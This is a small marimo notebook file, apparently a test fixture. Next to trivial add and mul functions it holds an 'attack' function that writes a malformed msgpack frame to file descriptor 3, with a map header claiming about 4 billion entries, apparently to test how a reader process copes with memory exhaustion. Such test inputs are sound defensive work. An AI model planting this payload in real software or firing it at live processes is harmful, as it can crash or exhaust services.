import marimo

__generated_with = "0.25.2"
app = marimo.App()


@app.function
def add(a, b):
    return a + b


@app.function
def mul(a, b):
    return a * b


@app.function
def attack(n):
    """Sends a small frame whose msgpack map claims 4 billion entries."""
    import os
    body = b"\xdf\xff\xff\xff\xff" + b"\xa1t\xa3end"
    os.write(3, len(body).to_bytes(4, "big") + body)
    return n * 2


if __name__ == "__main__":
    app.run()
